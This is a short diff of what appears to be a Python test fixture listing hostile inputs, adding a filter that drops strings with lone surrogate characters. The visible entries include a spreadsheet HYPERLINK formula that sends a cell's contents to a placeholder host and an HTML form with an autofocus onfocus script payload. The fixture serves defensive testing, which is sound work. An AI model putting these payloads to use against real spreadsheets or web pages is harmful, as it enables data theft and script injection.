@@ -32,3 +32,6 @@ HOSTILE = {
     "formula": '=HYPERLINK("https://example.invalid/?"&A1)',
     "form": "<form action=https://example.invalid/><input autofocus onfocus=window.pwned=1>",
 }
+
+# Those a run's files may hold: half a surrogate pair is no text, and is refused where it is read.
+STORED = {name: text for name, text in HOSTILE.items() if not any("\ud800" <= c <= "\udfff" for c in text)}
